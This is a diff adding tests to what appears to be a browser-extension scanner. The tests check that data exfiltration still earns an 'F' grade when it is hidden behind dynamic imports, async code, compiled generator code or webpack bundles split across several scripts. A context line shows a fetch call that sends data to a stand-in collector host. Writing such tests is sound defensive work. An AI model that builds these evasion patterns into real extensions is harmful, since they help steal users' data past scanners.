@@ -66,6 +66,62 @@ it.each<[string, (data: string) => string]>([
   expect(await graded({ background: background('Promise.resolve([1])') })).toMatch(/^A/);
 });
 
+it.each<[string, (data: string) => string]>([
+  [
+    'a module that is loaded when it is needed',
+    (data) => `${data}.then((l) => { import('./tell.js').then((m) => m.tell(l)); });`,
+  ],
+  [
+    'the same, waited for',
+    (data) => `(async () => { const l = await ${data}; (await import('./tell.js')).tell(l); })();`,
+  ],
+  [
+    'the same, as steps',
+    (data) =>
+      `__awaiter(void 0, void 0, void 0, function () { var l; return __generator(this, function (state) { switch (state.label) { case 0: return [4, ${data}]; case 1: l = state.sent(); return [4, Promise.resolve().then(function () { return __importStar(require('./tell.js')); })]; case 2: state.sent().tell(l); return [2]; } }); });`,
+  ],
+])('%s', async (_, background) => {
+  const scanned = (data: string): Promise<string> =>
+    graded({
+      background: background(data),
+      manifest: { background: { service_worker: 'background.js', type: 'module' } },
+      files: { 'tell.js': `export function tell(l) { ${send('l')}; }` },
+    });
+  expect(await scanned(TAKEN)).toBe('F');
+  expect(await scanned('Promise.resolve([1])')).toMatch(/^A/);
+});
+
+it('a module put into one object, inside of a bundle', async () => {
+  const background = (data: string): string =>
+    `(() => { var put = (o, all) => { for (var k in all) Object.defineProperty(o, k, { get: all[k], enumerable: true }); }; var net = {}; put(net, { tell: () => tell }); function tell(l) { ${send('l')}; } ${data}.then(async (l) => { (await Promise.resolve().then(() => net)).tell(l); }); })();`;
+  expect(await graded({ background: background(TAKEN) })).toBe('F');
+  expect(await graded({ background: background('Promise.resolve([1])') })).toMatch(/^A/);
+});
+
+it('parts of one bundle in several scripts', async () => {
+  const chunk = (id: number, modules: string): string =>
+    `(self.webpackChunkapp = self.webpackChunkapp || []).push([[${id}], { ${modules} }]);`;
+  const runtime =
+    '(() => { var mods = {}, cache = {}; function n(id) { var known = cache[id]; if (known !== undefined) return known.exports; var module = (cache[id] = { exports: {} }); mods[id](module, module.exports, n); return module.exports; } n.d = (e, all) => { for (var k in all) Object.defineProperty(e, k, { get: all[k] }); }; var list = (self.webpackChunkapp = self.webpackChunkapp || []); list.push = (part) => Object.assign(mods, part[1]); n(10); })();';
+  const scanned = (data: string): Promise<string> =>
+    graded({
+      files: {
+        'runtime.js': runtime,
+        'lib.js': chunk(
+          1,
+          `11: (e, t, n) => { n.d(t, { all: () => all }); const all = () => ${data}; }, 12: (e, t) => { e.exports = function (l) { ${send('l')}; }; }`,
+        ),
+        'main.js': chunk(
+          2,
+          '10: (e, t, n) => { var one = n(11), tell = n(12); (0, one.all)().then((l) => { tell(l); }); }',
+        ),
+      },
+      manifest: { manifest_version: 2, background: { scripts: ['runtime.js', 'lib.js', 'main.js'] } },
+    });
+  expect(await scanned(TAKEN)).toBe('F');
+  expect(await scanned('Promise.resolve([1])')).toMatch(/^A/);
+});
+
 it('loops over fields of a page, as compilers write them', async () => {
   const send = "fetch('https://collect.example/x?' + DATA)";
   const forOf = (data: string): string =>
